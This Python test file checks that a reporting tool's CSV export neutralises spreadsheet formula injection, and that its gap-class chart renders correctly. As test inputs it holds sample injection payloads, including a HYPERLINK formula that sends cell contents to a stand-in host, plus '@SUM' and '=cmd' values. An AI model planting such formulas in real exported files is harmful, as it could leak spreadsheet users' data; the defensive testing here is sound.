"""Rendering query results: CSV cells a spreadsheet shows and never runs (formula injection)."""

from __future__ import annotations

import csv
import io
from typing import Any, ClassVar

from hypothesis import given
from hypothesis import strategies as st

import queries
from preflight_audit import report

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


class TestCsv:
    """Every CSV cell that a spreadsheet would read as a formula gets a leading quote; numbers stay numbers."""

    def test_formula_cells_are_neutralised(self) -> None:
        result = queries.Result(
            ("value", "note", "amount"),
            [
                ('=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1 555", -5),
                ("@SUM(A1:A9)", "-2+3", 500000),
                ("2200119", "plain text", 1.5),
            ],
        )
        rows = parsed(report.to_csv(result))
        assert rows[0] == ["value", "note", "amount"]
        assert rows[1] == ['\'=HYPERLINK("http://x.invalid/?"&A1,"click")', "'+1 555", "-5"]
        assert rows[2] == ["'@SUM(A1:A9)", "'-2+3", "500000"]
        assert rows[3] == ["2200119", "plain text", "1.5"]

    def test_a_header_is_neutralised_too(self) -> None:
        assert parsed(report.write_csv(["=cmd"], []))[0] == ["'=cmd"]

    @given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
    def test_no_text_cell_starts_a_formula_and_none_is_lost(self, cells: list[str]) -> None:
        back = parsed(report.write_csv([f"c{i}" for i in range(len(cells))], [cells]))[1]
        for original, cell in zip(cells, back, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)


class TestGapChart:
    """The demo's chart: a title with the date range and the run count, tools with their run counts,
    shares in percent, and every gap class by day."""

    ROWS: ClassVar[list[dict[str, Any]]] = [
        {
            "day": "2025-01-01",
            "tool": "bank.transfer",
            "agent_id": "a",
            "runs": 4,
            "executes": 2,
            "instruction_gaps": 1,
            "action_definition_gaps": 0,
            "configuration_defects": 1,
            "unmet_conditions": 0,
            "internal_errors": 0,
        },
        {
            "day": "2025-01-02",
            "tool": "records.delete_all",
            "agent_id": "a",
            "runs": 1,
            "executes": 0,
            "instruction_gaps": 0,
            "action_definition_gaps": 1,
            "configuration_defects": 0,
            "unmet_conditions": 0,
            "internal_errors": 0,
        },
    ]

    def test_what_the_chart_says(self) -> None:
        import matplotlib.pyplot as plt

        fig = report.gap_figure(self.ROWS)
        try:
            title = fig._suptitle.get_text()
            assert "2025-01-01 to 2025-01-02" in title and "5 runs" in title
            by_tool, by_day = fig.axes
            assert [t.get_text() for t in by_tool.get_yticklabels()] == [
                "bank.transfer (4 runs)",
                "records.delete_all (1 run)",
            ]
            assert by_tool.xaxis.get_major_formatter()(0.5, 0) == "50%"
            assert by_day.yaxis.get_major_formatter()(0.25, 0) == "25%"
            assert sorted(line.get_label() for line in by_day.get_lines()) == sorted(
                label for _, label in report.GAP_CLASSES
            )
            day_one = {line.get_label(): next(iter(line.get_ydata())) for line in by_day.get_lines()}
            assert day_one["instruction gap"] == 0.25 and day_one["configuration defect"] == 0.25
        finally:
            plt.close(fig)


def test_the_png_chart_draws_each_class_in_the_consoles_colour() -> None:
    import datetime as dt

    import matplotlib.colors
    import matplotlib.pyplot as plt

    row = {"day": dt.date(2025, 1, 2), "tool": "bank.transfer", "agent_id": "a", "runs": 10, "executes": 1}
    rows = [row | {column: 1 for column, _ in report.GAP_CLASSES}]
    fig = report.gap_figure(rows)
    try:
        bars, lines = fig.axes[0], fig.axes[1]
        drawn = {matplotlib.colors.to_hex(p.get_facecolor()) for p in bars.patches}
        plotted = {matplotlib.colors.to_hex(line.get_color()) for line in lines.get_lines()}
    finally:
        plt.close(fig)
    colours = set(report.CLASS_COLOURS.values())
    assert colours <= drawn and colours <= plotted
